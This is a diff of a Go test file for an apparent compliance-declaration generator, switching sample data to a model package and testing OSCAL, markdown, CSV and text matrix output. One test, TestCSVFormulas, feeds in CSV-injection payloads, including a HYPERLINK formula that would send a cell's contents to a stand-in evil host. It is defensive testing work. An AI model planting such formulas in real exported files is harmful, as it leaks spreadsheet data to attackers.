@@ -9,31 +9,33 @@ import (
 	"testing"
 
 	"github.com/google/go-cmp/cmp"
+
+	"github.com/evident-dev/evident/generator/model"
 )
 
-func model() *Model {
-	return &Model{
+func sample() *model.Declaration {
+	return &model.Declaration{
 		BaseURL: "https://trust.example.com/", Languages: []string{"ja", "en"}, Framework: "cip",
-		Declaration:  Declaration{Title: Text{"ja": "宣言", "en": "Declaration"}, Version: "2026.1", Date: "2026-11-01"},
-		Organization: Organization{Name: Text{"ja": "ACME株式会社"}},
-		Products:     []Product{{ID: "gw", Name: Text{"en": "Gateway"}}},
-		Items: map[string]*Item{
-			"1":   {Key: "1", ID: "(1)", Framework: "cip", Level: "category", Title: Text{"ja": "設計", "en": "Design"}, Status: Partial, Products: map[string]Status{"gw": Partial}},
-			"1-2": {Key: "1-2", ID: "(1)-2", Framework: "cip", Level: "requirement", Title: Text{"ja": "セキュアなビルド", "en": "Secure build"}, Status: Implemented, Products: map[string]Status{"gw": Implemented}, Evidence: []string{"b"}},
-			"1-3": {Key: "1-3", ID: "(1)-3", Framework: "cip", Level: "requirement", Title: Text{"ja": "テスト|結合", "en": "Testing"}, Status: NotAddressed, Products: map[string]Status{"gw": NotAddressed}},
+		Declaration:  model.Statement{Title: model.Text{"ja": "宣言", "en": "Declaration"}, Version: "2026.1", Date: "2026-11-01"},
+		Organization: model.Organization{Name: model.Text{"ja": "ACME株式会社"}},
+		Products:     []model.Product{{ID: "gw", Name: model.Text{"en": "Gateway"}}},
+		Items: map[string]*model.Item{
+			"1":   {Key: "1", ID: "(1)", Framework: "cip", Level: "category", Title: model.Text{"ja": "設計", "en": "Design"}, Status: model.Partial, Products: map[string]model.Status{"gw": model.Partial}},
+			"1-2": {Key: "1-2", ID: "(1)-2", Framework: "cip", Level: "requirement", Title: model.Text{"ja": "セキュアなビルド", "en": "Secure build"}, Status: model.Implemented, Products: map[string]model.Status{"gw": model.Implemented}, Evidence: []string{"b"}},
+			"1-3": {Key: "1-3", ID: "(1)-3", Framework: "cip", Level: "requirement", Title: model.Text{"ja": "テスト|結合", "en": "Testing"}, Status: model.NotAddressed, Products: map[string]model.Status{"gw": model.NotAddressed}},
 		},
 		Order:    []string{"1", "1-2", "1-3"},
-		Evidence: map[string]*Evidence{"b": {Slug: "b", Title: Text{"ja": "ビルド"}, Path: "/evidence/b/"}},
-		Summary:  Counts{Total: 2, Implemented: 1, NotAddressed: 1},
+		Evidence: map[string]*model.Evidence{"b": {Slug: "b", Title: model.Text{"ja": "ビルド"}, Path: "/evidence/b/"}},
+		Summary:  model.Counts{Total: 2, Implemented: 1, NotAddressed: 1},
 	}
 }
 
 func TestOSCAL(t *testing.T) {
 	var a, b bytes.Buffer
-	if err := WriteOSCAL(&a, model()); err != nil {
+	if err := WriteOSCAL(&a, sample()); err != nil {
 		t.Fatal(err)
 	}
-	if err := WriteOSCAL(&b, model()); err != nil {
+	if err := WriteOSCAL(&b, sample()); err != nil {
 		t.Fatal(err)
 	}
 	if a.String() != b.String() {
@@ -69,25 +71,25 @@ func TestOSCAL(t *testing.T) {
 
 func TestMatrixFormats(t *testing.T) {
 	var md, csv, text bytes.Buffer
-	if err := WriteMatrix(&md, "markdown", model(), MatrixOptions{Lang: "ja"}); err != nil {
+	if err := WriteMatrix(&md, "markdown", sample(), MatrixOptions{Lang: "ja"}); err != nil {
 		t.Fatal(err)
 	}
 	if !strings.Contains(md.String(), `| (1)-3 | テスト\|結合 | ✕ 未対応 |`) {
 		t.Errorf("markdown escapes | and shows symbol + word:\n%s", md.String())
 	}
-	if err := WriteMatrix(&csv, "csv", model(), MatrixOptions{}); err != nil {
+	if err := WriteMatrix(&csv, "csv", sample(), MatrixOptions{}); err != nil {
 		t.Fatal(err)
 	}
 	if !strings.Contains(csv.String(), "(1)-2,requirement,セキュアなビルド,implemented,implemented\n") {
 		t.Errorf("csv:\n%s", csv.String())
 	}
-	if err := WriteMatrix(&text, "text", model(), MatrixOptions{Lang: "en", Color: true}); err != nil {
+	if err := WriteMatrix(&text, "text", sample(), MatrixOptions{Lang: "en", Color: true}); err != nil {
 		t.Fatal(err)
 	}
 	if !strings.Contains(text.String(), "\x1b[32m● Implemented") || !strings.Contains(text.String(), "Of 2 requirements: 1 implemented") {
 		t.Errorf("text:\n%s", text.String())
 	}
-	if err := WriteMatrix(&text, "yaml", model(), MatrixOptions{}); err == nil {
+	if err := WriteMatrix(&text, "yaml", sample(), MatrixOptions{}); err == nil {
 		t.Error("an unknown format is not an error")
 	}
 }
@@ -95,10 +97,10 @@ func TestMatrixFormats(t *testing.T) {
 // TestCSVFormulas: a cell that a spreadsheet would run as a formula is written as text,
 // with a leading single quote; IDs such as "(1)-2" and other cells are left as they are.
 func TestCSVFormulas(t *testing.T) {
-	m := model()
-	m.Items["1-2"].Title = Text{"en": `=HYPERLINK("https://evil.example/?"&A1,"click")`}
-	m.Items["1-3"].Title = Text{"en": "-1+1"}
-	m.Items["1"].Title = Text{"en": "@SUM(1+1)\t+\r＝1"}
+	m := sample()
+	m.Items["1-2"].Title = model.Text{"en": `=HYPERLINK("https://evil.example/?"&A1,"click")`}
+	m.Items["1-3"].Title = model.Text{"en": "-1+1"}
+	m.Items["1"].Title = model.Text{"en": "@SUM(1+1)\t+\r＝1"}
 	m.Items["1-3"].ID = "-(1)-3"
 	var b bytes.Buffer
 	if err := WriteMatrix(&b, "csv", m, MatrixOptions{Lang: "en"}); err != nil {
